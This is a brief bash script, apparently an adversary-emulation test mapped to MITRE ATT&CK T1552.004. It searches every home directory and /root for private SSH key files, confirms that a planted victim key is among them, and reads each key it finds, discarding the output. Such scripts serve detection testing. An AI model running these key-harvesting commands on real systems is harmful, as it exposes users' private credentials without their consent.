#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1552.004
# tactic: credential-access
# what: find private SSH keys in every home, then cat each one found
. "$AT_LIB"
find /root /home -xdev \( -name 'id_rsa' -o -name 'id_dsa' -o -name 'id_ecdsa' -o -name 'id_ed25519' \) -type f 2>/dev/null >"$AT_TMP/keys"
grep -q "$AT_VICTIM_HOME/.ssh/id_ed25519" "$AT_TMP/keys"
xargs -r cat <"$AT_TMP/keys" >/dev/null
